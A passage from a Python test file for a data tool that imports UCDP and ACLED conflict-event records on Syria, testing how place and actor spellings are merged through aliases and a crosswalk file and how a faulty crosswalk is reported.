                "source": "SOHR",
                "fatalities": "1",
            }
        )
    return write_csv(tmp_path / "acled-spellings.csv", rows, COLUMNS_31)


def _places_named(data: Dataset, name: str, kinds: set[str]) -> list[str]:
    return sorted(
        i
        for i, e in data.places.items()
        if e.record.kind in kinds and any(n == name for n in [e.record.name, *e.record.aliases])
    )


def test_ucdp_and_acled_spellings_meet_in_one_place_and_the_crosswalk_settles_the_rest(tmp_path: Path) -> None:
    ucdp = REPO / "tests" / "fixtures" / "imports" / "ucdp-ged-syria-sample.csv"
    acled = _acled_spellings(tmp_path)
    towns = {"town", "village", "city", "site"}

    project = tmp_path / "without"
    import_file("ucdp", ucdp, project / "seeds", project)
    report = import_file("acled", acled, project / "seeds", project)
    data = records(project)
    # one place per governorate, with ACLED's spelling as an alias
    for ucdp_name, acled_name in (("Idlib Governorate", "Idleb"), ("Al Hasakah Governorate", "Al Hasakeh")):
        assert _places_named(data, ucdp_name, {"governorate"}) == _places_named(data, acled_name, {"governorate"})
        assert len(_places_named(data, acled_name, {"governorate"})) == 1
    # one place per town, every spelling an alias, both datasets' incidents there
    for _, _, location, _, _, ucdp_name in _ACLED_SPELLINGS:
        [place] = _places_named(data, ucdp_name, towns)
        assert _places_named(data, location, towns) == [place], (location, ucdp_name)
        datasets = {next(iter(e.record.external_ids)) for e in data.incidents.values() if e.record.place == place}
        assert datasets == {"ucdp-ged", "acled"}, place
    # the uncertain one is reported with its candidate, and kept apart
    messages = [d.message for d in report.warnings]
    assert "place 'Kafr Rouma' may be the place 'kafr-ruma-town' (Kafr Ruma town, 6.9 km away); kept apart" in messages
    assert _places_named(data, "Kafr Rouma", towns) != _places_named(data, "Kafr Ruma town", towns)
    # without a crosswalk the two datasets' names for the Syrian government's forces are two actors
    assert {"government-of-syria", "military-forces-of-syria-2000"} <= set(data.actors)
    # search finds a place by any spelling folded the same way
    [idlib] = _places_named(data, "Idlib town", towns)
    node = next(n for n in build_index(data).places if n.id == idlib)
    searched = " ".join(place_document(node).lines).casefold()
    assert node.record.aliases and all(fold(n) in searched for n in [node.record.name, *node.record.aliases])
    assert "idleb" in searched and "idlib" in searched

    project = tmp_path / "with"
    (project / "seeds").mkdir(parents=True)
    (project / "seeds" / "crosswalk.yaml").write_text(
        "places:\n"
        "  - {name: Kafr Rouma, same_as: kafr-ruma-town}\n"
        "actors:\n"
        "  - name: Military Forces of Syria (2000-)\n"
        "    same_as: government-of-syria\n",
        encoding="utf-8",
    )
    import_file("ucdp", ucdp, project / "seeds", project)
    report = import_file("acled", acled, project / "seeds", project)
    assert not [d for d in report.warnings if "may be the place" in d.message]
    data = records(project)
    assert (
        _places_named(data, "Kafr Rouma", towns) == _places_named(data, "Kafr Ruma town", towns) == ["kafr-ruma-town"]
    )
    assert "military-forces-of-syria-2000" not in data.actors
    government = data.actors["government-of-syria"].record
    assert government.aliases == ["Military Forces of Syria (2000-)"]
    acled_parts = {
        p.actor for e in data.incidents.values() if "acled" in e.record.external_ids for p in e.record.participants
    }
    assert "government-of-syria" in acled_parts
    # importing again changes nothing: the crosswalk and the aliases hold
    again = import_file("acled", acled, project / "seeds", project)
    assert not again.created and not again.updated
    assert load_dataset(project / "seeds", project).diagnostics == []


def test_a_bad_crosswalk_is_refused_with_its_place_and_nothing_is_written(tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / "seeds").mkdir(parents=True)
    (project / "seeds" / "crosswalk.yaml").write_text(
        "places:\n  - {name: Idleb, same: idlib-town}\n", encoding="utf-8"
    )
    with pytest.raises(ImportFailed) as caught:
        import_file("acled", _acled_spellings(tmp_path), project / "seeds", project)
    assert caught.value.message == "seeds/crosswalk.yaml:2:19: unknown key 'same'"
    assert sorted(p.name for p in (project / "seeds").iterdir()) == ["crosswalk.yaml"]

    # an id the data folder does not have is reported where it is written, and ignored
    (project / "seeds" / "crosswalk.yaml").write_text(
        "actors:\n  - name: Military Forces of Syria (2000-)\n    same_as: goverment-of-syria\n", encoding="utf-8"
    )
    report = import_file("acled", _acled_spellings(tmp_path), project / "seeds", project)
    [warning] = [d for d in report.warnings if "crosswalk" in d.message]
    assert warning.format() == (
        "seeds/crosswalk.yaml:3:14: warning: the crosswalk names actor 'goverment-of-syria', which is not in the "
        "data folder; ignored\n  hint: check the id against seeds/actors/"
    )
    assert "military-forces-of-syria-2000" in records(project).actors
